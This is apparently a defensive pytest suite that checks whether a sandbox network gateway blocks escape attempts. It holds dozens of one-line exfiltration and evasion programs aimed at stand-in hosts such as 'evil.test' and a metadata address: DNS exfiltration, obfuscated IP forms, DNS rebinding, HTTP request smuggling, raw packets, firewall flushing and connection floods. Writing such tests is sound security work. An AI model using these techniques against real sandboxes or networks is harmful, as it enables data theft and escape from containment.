"""Attempts to get out of a sandbox through or around the gateway. Decided by canaries outside, each with a control.

An attempt is a program; it carries a nonce. Blocked means that the nonce reached no canary. The control is the same
program without the wall: in the server's own network namespace (`WORLD`), or in a sandbox whose policy allows it
(`OPEN`); there the nonce must arrive, else the attempt proves nothing.
"""

from __future__ import annotations

import secrets
import shlex
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass
from enum import Enum
from pathlib import Path
from typing import Any

import pytest
from e2b import CommandExitException, Sandbox

from support import internet
from support.egress_world import World, no_world, world
from support.host import requires, skip_without
from support.tiers import TIERS

FAULT = no_world()
pytestmark = [requires("namespaces"), pytest.mark.skipif(FAULT is not None, reason=str(FAULT))]

EVIL, GOOD, METADATA = internet.EVIL, internet.GOOD, internet.METADATA

WHERE = f"EVIL, GOOD, METADATA, DNS = {EVIL!r}, {GOOD!r}, {METADATA!r}, {internet.DNS!r}\n"
PRELUDE = (
    WHERE
    + """
import os, socket, ssl, struct, sys, time
N = sys.argv[1]
def talk(address, port, *parts, family=socket.AF_INET, pause=0.3):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((address, port))
    for part in parts:
        s.sendall(part.encode("latin-1") if isinstance(part, str) else part)
        s.settimeout(3)
        try:
            s.recv(65536)
        except OSError:
            pass
        time.sleep(pause if len(parts) > 1 else 0)
    return s
def get(host, path=None, version="1.1", more=""):
    return f"GET {path or '/' + N} HTTP/{version}\\r\\nHost: {host}\\r\\n{more}\\r\\n"
def http(address, host, port=80, **more):
    return talk(address, port, get(host), **more)
def tls(address, sni, host, port=443):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    s = socket.create_connection((address, port), timeout=3)
    s = c.wrap_socket(s, server_hostname=sni)
    s.sendall(get(host).encode()); s.recv(4096)
def question(name, kind=1, arcount=0):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0"
    return os.urandom(2) + struct.pack(">5H", 0x0100, 1, 0, 0, arcount) + labels + struct.pack(">2H", kind, 1)
def ask(name, server=DNS, extra=b"", arcount=0, stream=False):
    data = question(name, arcount=arcount) + extra
    if stream:
        return talk(server, 53, struct.pack(">H", len(data)) + data)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(data, (server, 53))
    return s.recv(4096)
def udp(address, port, data=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(data or N.encode(), (address, port))
def checksum(data):
    total = sum(struct.unpack(f"!{len(data)//2}H", data)); total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
"""
)


class Control(Enum):
    """Where the same program must succeed."""

    WORLD = "the server's network, without any wall"
    OPEN = "a sandbox with the default policy"


@dataclass(frozen=True)
class Attempt:
    name: str
    by: str
    control: Control
    code: str
    root: bool = False


def closed(name: str, code: str, control: Control = Control.OPEN) -> Attempt:
    """From a sandbox that may reach good.test and nothing else."""
    return Attempt(name, "closed", control, code)


def opened(name: str, code: str, *, root: bool = False) -> Attempt:
    """From a sandbox with the default policy."""
    return Attempt(name, "open", Control.WORLD, code, root)


# ruff: noqa: E501 (the attempts below read best one a line)
WEBSOCKET = "more='Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n'"
ATTEMPTS = [
    opened("metadata address", "http(METADATA, 'metadata')"),
    opened("metadata by a name", "ask('metadata.test'); http(METADATA, 'metadata.test')"),
    opened("metadata on another port", "http(METADATA, 'm', port=8080)"),
    opened("metadata as an octal literal", "http('0251.0376.0251.0376', 'm')"),
    opened("metadata as one number", "http('2852039166', 'm')"),
    opened("metadata mapped into IPv6", "http('::ffff:' + METADATA, 'm', family=socket.AF_INET6)"),
    opened("metadata with its TLS", "tls(METADATA, 'good.test', 'good.test')"),
    opened("metadata with an allowed name in Host", "ask('good.test'); http(METADATA, 'good.test')"),
    *(opened(f"private address {one}", f"http({one!r}, 'x')") for one in internet.PRIVATE),
    opened("private address mapped into IPv6", "http('::ffff:10.9.9.9', 'x', family=socket.AF_INET6)"),
    opened("private address by a name", "ask('inward.test'); http('10.9.9.9', 'inward.test')"),
    opened("private address by TLS", "tls('10.9.9.9', 'good.test', 'good.test')"),
    opened("rebinding name", "ask('rebind.test'); ask('rebind.test'); http('10.9.9.9', 'rebind.test')"),
    opened("host's address", f"http({internet.SERVER!r}, 'x', port=8099)"),
    opened("host's other address", f"http({internet.SERVER_TOO!r}, 'x', port=8099)"),
    opened("host by a name", f"ask('host.test'); http({internet.SERVER!r}, 'host.test', port=8099)"),
    opened("host's address mapped into IPv6", f"http('::ffff:{internet.SERVER}', 'x', 8099, family=socket.AF_INET6)"),
    opened("host's loopback", "http('127.0.0.1', 'x', port=8098)"),
    opened("host's loopback by 127.0.0.2", "http('127.0.0.2', 'x', port=8099)"),
    opened("host's loopback by 0.0.0.0", "http('0.0.0.0', 'x', port=8098)"),
    opened("host's loopback by a name", "ask('loop.test'); http('127.0.0.1', 'loop.test', port=8098)"),
    opened("host's IPv6 loopback", "http('::1', 'x', port=8097, family=socket.AF_INET6)"),
    opened("a datagram to port 443 (QUIC)", "udp(EVIL, 443)"),
    opened("a datagram to port 123 (NTP)", "udp(EVIL, 123)"),
    opened("a datagram to any port", "udp(EVIL, 7000)"),
    opened("a datagram to port 53 that is no DNS", "udp(EVIL, 53)"),
    opened("a datagram to port 53 hidden behind a question", "udp(EVIL, 53, question('good.test') + N.encode())"),
    opened("bytes behind a question", "ask('good.test', extra=N.encode())"),
    opened(
        "an EDNS option", "d=N.encode(); o=struct.pack('>HH', 65001, len(d))+d; "
        "ask('good.test', extra=b'\\0'+struct.pack('>HHIH', 41, 4096, 0, len(o))+o, arcount=1)",
    ),
    opened("a datagram from port 53", "s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', 53)); "
           "s.sendto(N.encode(), (EVIL, 7000))", root=True),
    opened(
        "an ICMP echo", "p=struct.pack('!BBHHH',8,0,0,1,1)+N.encode()+b'\\0'*(len(N)%2); "
        "p=p[:2]+struct.pack('!H',checksum(p))+p[4:]; "
        "s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(p,(EVIL,0))",
    ),
    opened(
        "an ICMP echo by a raw socket", "p=struct.pack('!BBHHH',8,0,0,1,1)+N.encode()+b'\\0'*(len(N)%2); "
        "p=p[:2]+struct.pack('!H',checksum(p))+p[4:]; "
        "s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.sendto(p,(EVIL,0))", root=True,
    ),
    opened(
        "a packet made by hand", "u=struct.pack('!4H',4000,7000,8+len(N),0)+N.encode(); "
        "h=struct.pack('!BBHHHBBH',69,0,20+len(u),1,0,64,17,0)+socket.inet_aton('0.0.0.0')+socket.inet_aton(EVIL); "
        "s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW); s.sendto(h+u,(EVIL,0))", root=True,
    ),
    opened(
        "a packet made by hand to the metadata address", "u=struct.pack('!4H',4000,7000,8+len(N),0)+N.encode(); "
        "h=struct.pack('!BBHHHBBH',69,0,20+len(u),1,0,64,17,0)+bytes(4)+socket.inet_aton(METADATA); "
        "s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW); s.sendto(h+u,(METADATA,0))", root=True,
    ),
    opened("metadata by TCP fast open", "s=socket.socket(); "
           "s.sendto(get('m').encode(), socket.MSG_FASTOPEN, (METADATA, 80)); s.recv(10)"),
    opened("metadata with a mark on the socket", "s=socket.socket()\ntry: s.setsockopt(socket.SOL_SOCKET, 36, 1)\n"
           "except OSError: pass\ns.connect((METADATA,80)); s.sendall(get('m').encode()); s.recv(10)", root=True),
    opened(
        "metadata after the rules were flushed", "os.system('nft flush ruleset 2>/dev/null; iptables -t nat -F 2>/dev/null;"
        " ip route flush table main 2>/dev/null') if os.path.exists('/.no') or socket.gethostname().startswith('i') "
        "else 0; http(METADATA, 'm')", root=True,
    ),
    opened("the redirect's own port, asked like a proxy",
           "s=None\ntry: talk('127.0.0.1', 15001, get('m', f'http://{METADATA}/{N}'))\nexcept OSError: http(METADATA,'m')"),
    closed("another address", "http(EVIL, 'evil.test')"),
    closed("another address by TLS", "tls(EVIL, 'evil.test', 'evil.test')"),
    closed("another address on another port", "talk(EVIL, 7000, N + '\\r\\n\\r\\n')"),
    closed("Host says an allowed name", "ask('good.test'); http(EVIL, 'good.test')"),
    closed("SNI says an allowed name", "ask('good.test'); tls(EVIL, 'good.test', 'evil.test')"),
    closed("a neighbour on an allowed address", "ask('good.test'); http(GOOD, 'shared.test')"),
    closed("a neighbour on an allowed address by SNI", "ask('good.test'); tls(GOOD, 'shared.test', 'shared.test')"),
    closed("a neighbour on another port", "ask('good.test'); http(GOOD, 'shared.test', port=7000)"),
    closed("TLS without a name", "ask('good.test'); tls(GOOD, None, 'shared.test')"),
    closed("HTTP without a name", "ask('good.test'); talk(GOOD, 80, f'GET /{N} HTTP/1.0\\r\\n\\r\\n')"),
    closed("bytes that are no HTTP on port 80", "ask('good.test'); talk(GOOD, 80, chr(0) + N + '\\r\\n\\r\\n')"),
    closed("a second request for a neighbour", "ask('good.test'); talk(GOOD, 80, get('good.test', '/'), get('shared.test'))"),
    closed("a request behind another in one piece", "ask('good.test'); talk(GOOD, 80, get('good.test', '/') + get('shared.test'))"),
    closed("an absolute target", "ask('good.test'); talk(GOOD, 80, get('good.test', f'http://shared.test/{N}'))"),
    closed("CONNECT", "ask('good.test'); talk(GOOD, 80, f'CONNECT /{N} HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n')"),
    closed("two Hosts", "ask('good.test'); talk(GOOD, 80, get('good.test', more='Host: shared.test\\r\\n'))"),
    closed("a blank before the colon", "ask('good.test'); talk(GOOD, 80, f'GET /{N} HTTP/1.1\\r\\nHost : shared.test\\r\\n\\r\\n')"),
    closed("a folded header", "ask('good.test'); talk(GOOD, 80, get('good.test', more='A: b\\r\\n Host: shared.test\\r\\n'))"),
    closed("a bare line feed", "ask('good.test'); talk(GOOD, 80, get('good.test', more='A: b\\nHost: shared.test\\r\\n'))"),
    closed("a length and chunks", "ask('good.test'); b=get('shared.test'); talk(GOOD, 80, get('good.test', '/', "
           "more=f'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n') + '0\\r\\n\\r\\n' + b)"),
    closed("two lengths", "ask('good.test'); b=get('shared.test'); talk(GOOD, 80, get('good.test', '/', "
           "more=f'Content-Length: 0\\r\\nContent-Length: {len(b)}\\r\\n') + b)"),
    closed("an upgrade that the server refuses",
           f"ask('good.test'); talk(GOOD, 80, get('good.test', '/', {WEBSOCKET}), get('shared.test'))"),
    closed("HTTP/2 without TLS", "ask('good.test'); talk(GOOD, 80, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + N + '\\r\\n\\r\\n')"),
    closed("a name below another domain (DNS exfiltration)", "ask(N + '.evil.test')"),
    closed("DNS exfiltration to another resolver", "ask(N + '.evil.test', server='8.8.8.8')"),
    closed("DNS exfiltration over TCP", "ask(N + '.evil.test', stream=True)"),
    closed("DNS exfiltration by a long name", "ask('.'.join([N] + ['a'*60]*3 + ['evil.test']))"),
    closed("DNS exfiltration by TXT", "s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); "
           "s.sendto(question(N+'.evil.test', 16), (DNS,53)); s.recv(99)"),
    closed("DNS exfiltration in capitals", "ask(N + '.EVIL.test')"),
    closed("DNS exfiltration below an allowed name", "ask(N + '.good.test')"),
    closed("a name that only ends alike", "ask(N + '-good.test')"),
    closed("a name that only begins alike", "ask(N + '.good.test.evil.test')"),
    closed("the system's resolver", "socket.getaddrinfo(N + '.evil.test', 80)"),
    closed("DNS over TLS by address", "talk(EVIL, 853, N + '\\r\\n\\r\\n')"),
    closed("DNS over HTTPS by address", "tls(EVIL, 'dns.google', 'dns.google')"),
    closed("DNS over HTTPS with an allowed SNI", "ask('good.test'); tls(EVIL, 'good.test', 'good.test')"),
    closed("an allowed name on an address that DNS never gave", "tls(EVIL, 'good.test', 'good.test')"),
    Attempt("denied by denyOut", "denied", Control.OPEN, "http(EVIL, 'evil.test')"),
    Attempt("denied by denyOut, by TLS", "denied", Control.OPEN, "tls(EVIL, 'evil.test', 'evil.test')"),
    Attempt("no internet access", "offline", Control.OPEN, "http(GOOD, 'good.test')"),
    Attempt("no internet access, by TLS", "offline", Control.OPEN, "tls(GOOD, 'good.test', 'good.test')"),
    Attempt("no internet access, DNS", "offline", Control.OPEN, "ask(N + '.evil.test')"),
]  # fmt: skip
POLICIES: dict[str, dict[str, Any]] = {
    "open": {},
    "closed": {"network": {"allow_out": ["good.test"], "deny_out": ["0.0.0.0/0"]}},
    "denied": {"network": {"deny_out": [f"{EVIL}/32"]}},
    "offline": {"allow_internet_access": False},
}


@dataclass
class Stage:
    """The world and its sandboxes."""

    world: World
    boxes: dict[str, Sandbox]

    def inside(self, box: str, code: str, nonce: str, *, root: bool = False) -> str:
        command = f"timeout 20 python3 -c {shlex.quote(PRELUDE + code)} {nonce}"
        try:
            done = self.boxes[box].commands.run(command, user="root" if root else "user", timeout=40)
        except CommandExitException as error:
            return error.stderr
        return done.stderr

    def outside(self, code: str, nonce: str) -> str:
        return self.world.run(f"import sys; sys.argv = ['-', {nonce!r}]\n" + PRELUDE + code)

    def heard(self, nonce: str, seconds: float) -> bool:
        deadline = time.monotonic() + seconds
        while True:
            if self.world.internet.heard(nonce) or self.world.host.heard(nonce):
                return True
            if time.monotonic() > deadline:
                return False
            time.sleep(0.05)


@pytest.fixture(scope="module", params=TIERS)
def stage(
    request: pytest.FixtureRequest, templates_dir: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Stage]:
    tier = request.param
    skip_without(tier)
    directory = tmp_path_factory.mktemp("egress")
    with world(directory, templates_dir, tier=tier) as made, pytest.MonkeyPatch.context() as patch:
        for name, value in made.environ.items():
            patch.setenv(name, value)
        yield Stage(made, {name: Sandbox.create(timeout=900, **more) for name, more in POLICIES.items()})


@dataclass(frozen=True)
class Outcome:
    blocked: bool
    controlled: bool
    said: str


@pytest.fixture(scope="module")
def outcomes(stage: Stage) -> dict[str, Outcome]:
    """All attempts and their controls, some at a time."""

    def run(attempt: Attempt) -> tuple[str, Outcome]:
        nonce, other = (f"n{secrets.token_hex(6)}" for _ in range(2))
        said = stage.inside(attempt.by, attempt.code, nonce, root=attempt.root)
        if attempt.control is Control.WORLD:
            said += "\ncontrol: " + stage.outside(attempt.code, other)
        else:
            said += "\ncontrol: " + stage.inside("open", attempt.code, other, root=attempt.root)
        controlled = stage.heard(other, 5)
        return attempt.name, Outcome(not stage.heard(nonce, 0.5), controlled, said)

    with ThreadPoolExecutor(4) as pool:
        return dict(pool.map(run, ATTEMPTS))


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt.name)
def test_nothing_gets_out(attempt: Attempt, outcomes: dict[str, Outcome]) -> None:
    outcome = outcomes[attempt.name]
    assert outcome.controlled, f"the control ({attempt.control.value}) did not arrive: {outcome.said}"
    assert outcome.blocked, outcome.said


def test_what_is_allowed_gets_out(stage: Stage) -> None:
    for box, code in (
        ("closed", "ask('good.test'); http(GOOD, 'good.test')"),
        ("closed", "ask('good.test'); tls(GOOD, 'good.test', 'good.test')"),
        ("closed", "ask('good.test'); talk(GOOD, 80, get('good.test', '/1'), get('good.test'))"),
        ("denied", "http(GOOD, 'good.test')"),
        ("open", "tls(EVIL, 'evil.test', 'evil.test')"),
    ):
        nonce = f"n{secrets.token_hex(6)}"
        said = stage.inside(box, code, nonce)
        assert stage.heard(nonce, 5), (box, code, said)


def test_a_sibling_sandbox_is_out_of_reach(stage: Stage) -> None:
    listen = "import http.server as h; h.HTTPServer(('0.0.0.0', 9000), h.SimpleHTTPRequestHandler).serve_forever()"
    sibling = stage.boxes["open"]
    server = sibling.commands.run(f"exec python3 -c {shlex.quote(listen)} 2>/tmp/seen", background=True)
    control = [f"n{secrets.token_hex(6)}" for _ in range(2)]
    attempt = [f"n{secrets.token_hex(6)}" for _ in range(2)]
    try:
        for address, own, other in zip(("10.0.2.15", "127.0.0.1"), control, attempt, strict=True):
            code = f"http({address!r}, 'x', port=9000)"
            for _ in range(50):
                stage.inside("open", code, own)
                if own in sibling.files.read("/tmp/seen"):
                    break
                time.sleep(0.1)
            stage.inside("denied", code, other)
        seen = sibling.files.read("/tmp/seen")
        assert all(nonce in seen for nonce in control), "the control did not arrive"
        assert not any(nonce in seen for nonce in attempt)
    finally:
        server.kill()


def test_root_inside_can_neither_take_the_redirects_ports_nor_change_its_rules(stage: Stage) -> None:
    script = """
def outcome(act):
    try:
        act()
        return "done"
    except OSError as error:
        return error.errno
def bind(kind, port):
    socket.socket(socket.AF_INET, kind).bind(("127.0.0.1", port))
def route(kind, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 5, 1, 0) + body)
    error = struct.unpack_from("=i", s.recv(4096), 16)[0]
    if error:
        raise OSError(-error, "")
print(outcome(lambda: bind(socket.SOCK_STREAM, 15001)), outcome(lambda: bind(socket.SOCK_DGRAM, 15053)),
      outcome(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)),
      outcome(lambda: route(16, struct.pack("=BxHiII", 0, 0, 1, 0, 1))),
      outcome(lambda: route(25, struct.pack("=8BI", 2, 0, 0, 0, 254, 4, 253, 1, 0))))
"""
    said = stage.boxes["open"].commands.run(f"python3 -c {shlex.quote(PRELUDE + script)} x", user="root").stdout
    # gVisor's ports are of a stack of its own: whoever takes one of those numbers there has taken nothing.
    expected = ["done", "done", "93", "13", "13"] if stage.world.tier == "gvisor" else ["98", "98", "93", "1", "1"]
    assert said.split() == expected


def test_a_flood_of_connections_is_bounded_and_starves_nobody_else(stage: Stage) -> None:
    flood = """
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
held = []
for number in range(3000):
    s = socket.socket(); s.setblocking(False)
    try: s.connect((GOOD, 7000))
    except BlockingIOError: pass
    except OSError: break
    held.append(s)
time.sleep(6)
print(len(held))
"""
    before = sum(line["kind"] == "connect" for line in stage.world.internet.lines)
    running = stage.boxes["open"].commands.run(f"python3 -c {shlex.quote(PRELUDE + flood)} x", background=True)
    time.sleep(3)
    nonce = f"n{secrets.token_hex(6)}"
    stage.inside("denied", "http(GOOD, 'good.test')", nonce)
    assert stage.heard(nonce, 5), "another sandbox was starved"
    stage.boxes["denied"].get_info()
    assert int(running.wait().stdout) > 2000, "there was no flood"
    passed = sum(line["kind"] == "connect" for line in stage.world.internet.lines) - before
    assert 100 < passed <= 1024 + 10
    again = f"n{secrets.token_hex(6)}"
    stage.inside("open", "http(GOOD, 'good.test')", again)
    assert stage.heard(again, 10), "the flooder's own way out stayed shut"


def test_a_flood_of_questions_starves_nobody_else(stage: Stage) -> None:
    flood = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data = question('good.test')
for number in range(20000):
    s.sendto(data, (DNS, 53))
"""
    before = sum(line["kind"] == "dns" for line in stage.world.internet.lines)
    stage.inside("open", flood, "x")
    nonce = f"n{secrets.token_hex(6)}"
    stage.inside("denied", f"ask('{nonce}.evil.test')", nonce)
    assert stage.heard(nonce, 5)
    assert sum(line["kind"] == "dns" for line in stage.world.internet.lines) - before < 10_000


def test_a_policy_that_closes_cuts_what_is_open(stage: Stage) -> None:
    box = Sandbox.create(timeout=300)
    first, second = (f"n{secrets.token_hex(6)}" for _ in range(2))
    code = f"""
s = talk(GOOD, 80, get('good.test', '/{first}'))
open('/tmp/first', 'w').close()
while not os.path.exists('/tmp/go'): time.sleep(0.05)
s.sendall(get('good.test', '/{second}').encode())
time.sleep(1)
"""
    running = box.commands.run(f"python3 -c {shlex.quote(PRELUDE + code)} x", background=True)
    assert stage.heard(first, 10), "the control did not arrive"
    box.update_network({"allow_internet_access": False})
    box.files.write("/tmp/go", "")
    with suppress(CommandExitException):
        running.wait()
    assert not stage.heard(second, 1)
    box.kill()
